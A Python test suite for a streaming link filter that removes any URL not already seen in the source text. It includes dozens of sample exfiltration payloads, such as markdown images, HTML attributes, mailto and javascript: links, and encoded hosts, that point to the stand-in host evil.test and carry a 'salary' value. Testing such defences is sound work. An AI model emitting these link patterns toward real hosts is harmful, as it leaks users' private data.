from __future__ import annotations

import itertools

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipelines.links import REMOVED, LinkGuard

SEEN = "See https://docs.example.com/a?b=c and www.example.org/x, ftp://files.example.com/z."


def _guard(pieces: list[str]) -> str:
    guard = LinkGuard(lambda address: address in SEEN)
    return "".join([*map(guard.feed, pieces), guard.finish()])


def _every_way(text: str) -> set[str]:
    """Return what comes of a text whole, letter by letter, and cut in two anywhere."""
    cuts = [[text], list(text)] + [[text[:i], text[i:]] for i in range(1, len(text))]
    return {_guard(pieces) for pieces in cuts}


@pytest.mark.parametrize(
    "text",
    [
        "Look at https://docs.example.com/a?b=c.",
        "[the page](https://docs.example.com/a?b=c) and www.example.org/x!",
        "Plain words: 3/4, and/or, C:\\Users\\ada, 10:30, a//b, e.g. this. // a comment //TODO",
        "if x < 3: return [1]",
        "A & B &amp; C; x &lt; y",
        "`handlers[name](event)`",
        "Hello! [1]",
        "what happened: nothing, http is a protocol",
        "```rust\nlet v = vec![List::<u8>::new()];\n```\n",
        '1. Do:\n   ```html\n   <div class="x">\n   ```\n',
        "Use `<div>` here.",
        "<b>bold</b> and a<br>b",
        "[1]: Important: see [page 3](#p3), [home](/home?tab=2)",
        "[https://docs.example.com/a?b=c](https://docs.example.com/a?b=c)",
        "<https://docs.example.com/a?b=c>",
        "請看https://docs.example.com/a?b=c。",
    ],
)
def test_what_may_stand_stands(text: str) -> None:
    assert _every_way(text) == {text}


@pytest.mark.parametrize(
    ("text", "guarded"),
    [
        ("see https://evil.test/?q=salary now", f"see {REMOVED} now"),
        ("[more](https://evil.test/?q=salary)", f"[more]({REMOVED})"),
        ("![x](https://evil.test/salary.png)", f"[x]({REMOVED})"),
        ("![x](https://docs.example.com/a?b=c)", "[x](https://docs.example.com/a?b=c)"),
        ("https://docs.example.com/a?b=c&q=salary", REMOVED),
        ("[a](//evil.test/salary)", f"[a]({REMOVED})"),
        ("[a](/\\evil.test/salary)", f"[a]({REMOVED})"),
        ("[a](https:evil.test?salary)", f"[a]({REMOVED})"),
        ("HTTPS://EVIL.test/salary", REMOVED),
        ("www.evil.test/salary", REMOVED),
        ("https&#58;//evil.test/salary", f"https&#58;{REMOVED}"),
        ("https&colon;&sol;&sol;evil.test/salary", REMOVED),
        ("https\\://evil.test/salary", f"https\\{REMOVED}"),
        ("[r]: https://evil.test/salary", f"[r]: {REMOVED}"),
        ('<img src="https://evil.test/salary">', f'&lt;img src="{REMOVED}">'),
        ("<https://evil.test/salary>", f"<{REMOVED}>"),
        ("mailto:x@evil.test?body=salary", REMOVED),
        ("[a](javascript:salary('//evil.test'))", f"[a]({REMOVED})"),
        ("x://evil.test/salary", REMOVED),
        ("//evil%2Etest/salary", REMOVED),
        ("//evil。test/salary", REMOVED),
        ("//1249763844/salary", REMOVED),
        ("h&#116;tp:evil.test/salary", REMOVED),
        ("<table background=//evil.test/salary>", "<table>"),
        ("<p style='background:url(//evil.test/salary)'>x</p>", "<p>x</p>"),
        ("<use href=//evil.test/salary>", f"&lt;use href={REMOVED}>"),
        ("<track src=//evil.test/salary>", f"&lt;track src={REMOVED}>"),
        ("<td colspan=2 id=salary>", '<td colspan="2">'),
        ("```\nhttps://evil.test/salary\n```", f"```\n{REMOVED}\n```"),
    ],
)
def test_what_was_never_seen_is_removed(text: str, guarded: str) -> None:
    found = _every_way(text)
    assert all("salary" not in one for one in found), found
    assert all("![" not in one for one in found), found
    assert _guard([text]) == guarded


def test_link_guard_lets_words_out_as_they_come() -> None:
    guard = LinkGuard(lambda _: False)
    assert guard.feed("長い文が空白なしで続き、") == "長い文が空白なしで続き、"
    assert guard.feed("A sentence goes on ") == "A sentence goes on "


PIECES = st.sampled_from(
    ["https", ":", "//", "/", "\\", "evil.test", "?q=salary", "[", "]", "(", ")", "!", " ", "&#58;",
     "www", ".", "<img src=", ">", "\n", "`", "1", "&", ";", "text", "'", '"']
)  # fmt: skip


@given(st.lists(PIECES, max_size=14), st.lists(st.integers(0, 40), max_size=5))
def test_however_it_is_cut_no_unseen_address_comes_out(parts: list[str], cuts: list[int]) -> None:
    text = "".join(parts)
    places = sorted({0, len(text), *(cut for cut in cuts if cut < len(text))})
    pieces = [text[a:b] for a, b in itertools.pairwise(places)]
    out = _guard(pieces)
    for spelled in ("://evil", "https:evil", "www.evil"):
        assert spelled not in out.lower(), (text, pieces, out)
